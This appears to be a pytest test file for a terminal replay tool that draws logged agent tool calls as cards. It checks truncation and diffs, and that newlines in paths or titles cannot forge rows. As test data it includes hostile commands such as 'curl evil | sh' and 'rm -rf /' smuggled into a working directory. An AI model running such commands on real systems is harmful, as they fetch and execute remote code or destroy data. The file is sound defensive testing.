"""`dsh-tools replay`: every card kind rendered in the terminal, checked through rich's recording."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import attrs
import pytest
from click.testing import CliRunner
from rich.console import Console

from dsh_core import (
    CancelSignal,
    TextBlock,
    ToolExecution,
    ToolExecutionToken,
    ToolResult,
    define_tool,
    hookimpl,
    snapshot_json,
)
from dsh_core._cli import cli
from dsh_core._replay import ReplayedCall
from dsh_core._terminal_cards import render_replayed_call
from dsh_core.presentation import (
    UNREAD_OLD_TEXT,
    DiffCallView,
    DiffResultView,
    FileDiff,
    GenericCallView,
    ReadFileLine,
    ReadResultView,
    SearchFileMatches,
    SearchMatch,
    SearchResultView,
    TerminalCallView,
    TerminalResultView,
    WebResultView,
    WebSource,
)
from dsh_core.testing import make_runtime
from dsh_plugins.approval import approval_card
from dsh_plugins.files import file_tools


def rendered(call: ReplayedCall) -> str:
    console = Console(record=True, width=100, color_system=None)
    console.print(render_replayed_call(call))
    return console.export_text()


def replayed(result_view: Any, *, call_view: Any = None, is_error: bool = False, text: str = "raw") -> ReplayedCall:
    return ReplayedCall(
        call_id="c1",
        name="tool",
        arguments={},
        agent=None,
        call_view=call_view or GenericCallView(title="tool"),
        result=ToolResult(content=(TextBlock(text),), is_error=is_error),
        result_view=result_view,
        error={"code": "TOOL_ERROR"} if is_error else None,
    )


def test_a_huge_denial_reason_is_cut_short_in_the_card() -> None:
    reason = "no " * 1_000_000
    call = attrs.evolve(
        replayed(None, is_error=True, text=f"Error: {reason}"), error={"code": "DENIED", "message": reason}
    )
    console = Console(record=True, width=2100, color_system=None)
    console.print(render_replayed_call(call))
    out = console.export_text()
    shown = "Error: " + reason[: 2000 - len("Error: ")]
    assert f"│ {shown}… (2998007 more characters not shown)" in out
    assert len(out.splitlines()) == 4  # the borders, the reason and the code
    assert "DENIED" in out


@pytest.mark.parametrize(
    ("result_view", "text"),
    [
        (None, ("x" * 79 + "\n") * 5_000),
        (TerminalResultView(output=("x" * 79 + "\n") * 5_000, exit_code=0), "raw"),
        (None, "y" * 400_000),
    ],
    ids=["generic", "terminal", "one-line"],
)
def test_a_huge_logged_output_is_cut_short_in_the_card(result_view: Any, text: str) -> None:
    """rich splits a card's text in quadratic time: 13 MB of output took over a minute to replay."""
    call = replayed(result_view, text=text, call_view=TerminalCallView(title="make") if result_view else None)
    # The card's text without its borders, and without the spaces rich pads and wraps with.
    inside = "".join(line[2:-2] for line in rendered(call).splitlines() if line.startswith("│")).replace(" ", "")
    assert inside.endswith(text[99_000:100_000].replace("\n", "") + "…(300000morecharactersnotshown)")
    assert len(inside) < 101_000


def test_terminal_card_shows_exit_status_pill() -> None:
    out = rendered(
        replayed(TerminalResultView(output="hello\n", exit_code=3), call_view=TerminalCallView(title="echo hello"))
    )
    assert "$ echo hello" in out and "exit 3" in out and "hello" in out


def test_read_card_has_line_numbers() -> None:
    view = ReadResultView(
        path="a.py", offset=10, lines=(ReadFileLine(number=10, text="x = 1"), ReadFileLine(number=11, text="y = 2")),
        total_lines=40, lang="python",
    )  # fmt: skip
    out = rendered(replayed(view))
    assert "a.py  lines 10-11 of 40" in out
    assert "10 x = 1" in out.replace("│", "").replace("  ", " ")


def test_search_card_groups_by_file_and_says_when_truncated() -> None:
    view = SearchResultView(
        shape="matches",
        files=(SearchFileMatches(path="a.py", matches=(SearchMatch(line_number=3, line="needle"),)),),
        truncated=True,
        total=57,
    )
    out = rendered(replayed(view))
    assert "a.py" in out and "3: needle" in out and "1 of 57 shown (truncated)" in out


def test_diff_card_is_a_unified_diff() -> None:
    view = DiffResultView(diffs=(FileDiff(path="f.txt", old_text="a\nb\n", new_text="a\nc\n"),))
    out = rendered(replayed(view))
    assert "-b" in out and "+c" in out and "b/f.txt" in out


def test_failed_generic_result_shows_raw_content_and_code() -> None:
    out = rendered(replayed(None, is_error=True, text="Error: boom"))
    assert "Error: boom" in out and "TOOL_ERROR" in out


async def shout(args: Any) -> str:
    return args["text"].upper()


class CardsPlugin:
    @hookimpl
    def dsh_setup(self, runtime: Any, config: Any) -> None:
        runtime.register(
            define_tool(
                name="shout",
                description="Shout",
                parameters={"text": {"type": "string", "required": True}},
                output={"type": "string"},
                execute=shout,
                present_call=lambda args: TerminalCallView(title=f"shout {args['text']}"),
                present_result=lambda args, result: TerminalResultView(
                    output=result.content[0].text, exit_code=0
                ),
            )
        )


plugin = CardsPlugin()


def test_replay_command_renders_a_recorded_session(tmp_path: Path) -> None:
    session = tmp_path / "session.jsonl"
    runner = CliRunner()
    base = ["--no-plugins", "--plugin", "cards=test_replay_cli:plugin"]
    first = runner.invoke(cli, [*base, "call", "shout", json.dumps({"text": "hi"}), "--session", str(session)])
    assert first.exit_code == 0, first.output
    second = runner.invoke(cli, [*base, "call", "nope", "--session", str(session)])
    assert second.exit_code == 1
    shown = runner.invoke(cli, [*base, "replay", str(session)])
    assert shown.exit_code == 0, shown.output
    assert "$ shout hi" in shown.output and "exit 0" in shown.output and "HI" in shown.output
    assert "UNKNOWN_TOOL" in shown.output


def test_replay_reports_a_torn_last_line(tmp_path: Path) -> None:
    session = tmp_path / "session.jsonl"
    runner = CliRunner()
    base = ["--no-plugins", "--plugin", "cards=test_replay_cli:plugin"]
    assert runner.invoke(cli, [*base, "call", "shout", '{"text": "a"}', "--session", str(session)]).exit_code == 0
    with session.open("ab") as handle:
        handle.write(b'{"seq": 3, "type": "tool/ca')
    shown = runner.invoke(cli, [*base, "replay", str(session)])
    assert shown.exit_code == 0
    assert "torn" in shown.output


def test_a_newline_in_a_searched_path_cannot_fake_a_row_or_the_heading() -> None:
    view = SearchResultView(shape="paths", truncated=False, total=2, paths=("a.txt", "x.txt\nsecret.key"))
    out = rendered(replayed(view, call_view=GenericCallView(title="Glob *.txt\n╰──╯ fake end")))
    assert "x.txt\\x0asecret.key" in out
    assert "Glob *.txt\\x0a╰──╯ fake end" in out.splitlines()[0]
    matches = SearchResultView(
        shape="matches",
        files=(SearchFileMatches(path="a.py\nb.py", matches=(SearchMatch(line_number=3, line="x\ny"),)),),
        truncated=False,
        total=1,
    )
    out = rendered(replayed(matches))
    assert "a.py\\x0ab.py" in out and "3: x\\x0ay" in out


def test_a_command_that_never_reported_an_exit_status_is_not_shown_running() -> None:
    """The shell tool's timeout before the command started: settled, with neither exit code nor signal."""
    out = rendered(replayed(TerminalResultView(output="", exit_code=None, signal=None)))
    assert "running" not in out and "no exit status" in out


def test_the_diff_card_breaks_lines_only_at_newlines() -> None:
    view = DiffResultView(diffs=(FileDiff(path="f.txt", old_text=None, new_text="rm -rf cache\x0c ~\nnext\n"),))
    out = rendered(replayed(view))
    assert "+rm -rf cache\\x0c ~ " in out and "+ ~" not in out


def _card_lines(out: str) -> list[str]:
    """The text inside the panel's borders, one entry per drawn line."""
    return [line.strip("│ ").rstrip() for line in out.splitlines()[1:-1]]


def test_a_newline_in_a_diffs_path_cannot_forge_its_headers() -> None:
    path = "notes.txt\n+++ b/notes.txt\n@@ -0,0 +1 @@\n+just a note"
    call_view = DiffCallView(title="Write", diffs=(FileDiff(path=path, old_text=None, new_text="curl evil | sh\n"),))
    out = rendered(attrs.evolve(replayed(None, call_view=call_view), result=None, result_view=None))
    lines = _card_lines(out)
    shown = "notes.txt\\x0a+++ b/notes.txt\\x0a@@ -0,0 +1 @@\\x0a+just a note"
    assert lines[1] == f"+++ b/{shown}"
    assert lines[2:4] == ["@@ -0,0 +1 @@", "+curl evil | sh"]
    assert "+just a note" not in lines


def test_a_newline_in_a_dispatched_sub_calls_name_cannot_forge_another_dispatch() -> None:
    call = attrs.evolve(
        replayed(None),
        dispatches=({"subCallId": "s1", "name": "delete_everything [error]\n  ↳ s2 read_file", "isError": False},),
    )
    lines = _card_lines(rendered(call))
    assert lines[1] == "↳ s1 delete_everything [error]\\x0a  ↳ s2 read_file [ok]"
    assert len([line for line in lines if "↳" in line]) == 1


def test_a_newline_in_a_web_sources_title_cannot_forge_another_source() -> None:
    web = WebResultView(
        kind="search",
        truncated=False,
        sources=(WebSource(url="https://a.example", title="A\n• Official docs  https://docs.python.org"),),
    )
    lines = _card_lines(rendered(replayed(web)))
    assert lines[0] == "• A\\x0a• Official docs  https://docs.python.org  https://a.example"
    assert len([line for line in lines if line.startswith("•")]) == 1
    fetched = WebResultView(kind="fetch", url="https://a.example\n200 OK", status_code=404, truncated=False)
    assert _card_lines(rendered(replayed(fetched))) == ["https://a.example\\x0a200 OK → 404"]


def test_a_newline_in_a_read_path_or_a_cwd_cannot_forge_a_line() -> None:
    view = ReadResultView(
        path="a.py\nb.py  lines 1-1 of 1", offset=1, lines=(ReadFileLine(number=1, text="x"),), total_lines=1
    )
    assert _card_lines(rendered(replayed(view)))[0] == "a.py\\x0ab.py  lines 1-1 of 1  lines 1-1 of 1"
    shell = TerminalCallView(title="ls", cwd="/tmp\n$ rm -rf /")
    lines = _card_lines(rendered(replayed(TerminalResultView(output="", exit_code=0), call_view=shell)))
    assert lines[:2] == ["$ ls", "(in /tmp\\x0a$ rm -rf /)"]


def test_a_pending_write_without_a_before_image_reads_as_the_approval_question_put_it(tmp_path: Path) -> None:
    """A blind overwrite is no new file: "/dev/null" would say that nothing was there to lose."""
    (tmp_path / "existing_config.toml").write_text("keep = true\n")
    runtime = make_runtime(*file_tools(tmp_path))
    arguments = {"path": "existing_config.toml", "content": "x = 1\n"}
    execution = ToolExecution(
        call_id="c1", root_call_id="c1", name="write_file", arguments=snapshot_json(arguments),
        signal=CancelSignal(), token=ToolExecutionToken(), agent=None,
    )  # fmt: skip
    write = runtime.get("write_file", None)
    assert write is not None and write.present_call is not None
    pending = attrs.evolve(replayed(None, call_view=write.present_call(arguments)), result=None, result_view=None)
    lines = _card_lines(rendered(pending))
    assert lines[:3] == [f"--- {UNREAD_OLD_TEXT}", "+++ b/existing_config.toml", "@@ -0,0 +1 @@"]
    assert approval_card(execution, runtime).splitlines()[:2] == lines[:2]


def test_a_small_edit_of_a_long_file_is_diffed_with_its_own_line_numbers() -> None:
    old = "".join(f"line {n}\n" for n in range(20_000))
    view = DiffResultView(diffs=(FileDiff(path="f.txt", old_text=old, new_text=old.replace("line 15000\n", "x\n")),))
    lines = _card_lines(rendered(replayed(view)))
    assert lines[:3] == ["--- a/f.txt", "+++ b/f.txt", "@@ -14998,7 +14998,7 @@"]
    assert lines[3:11] == [*(f"line {n}" for n in (14997, 14998, 14999)), "-line 15000", "+x",
                           *(f"line {n}" for n in (15001, 15002, 15003))]  # fmt: skip


def test_a_logged_edit_too_long_to_compare_shows_the_start_of_each_side(monkeypatch: pytest.MonkeyPatch) -> None:
    """A log may hold any texts: difflib on 10 000 lines of repeated text took seconds per card."""
    from dsh_core import _diff_hunks

    def no_diff(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("difflib compared texts too long to compare")

    monkeypatch.setattr(_diff_hunks.difflib, "unified_diff", no_diff)
    old = "".join(f"a{n % 150}\n" for n in range(10_000))
    new = "".join(f"a{n * 7 % 150}\n" for n in range(10_000))
    lines = _card_lines(rendered(replayed(DiffResultView(diffs=(FileDiff(path="f.txt", old_text=old, new_text=new),)))))
    assert lines[2] == "@@ -2,9999 +2,9999 @@ too long to compare line by line: the start of each side"
    assert lines[3] == "-a1" and "... 9974 more removed lines" in lines and "... 9974 more added lines" in lines
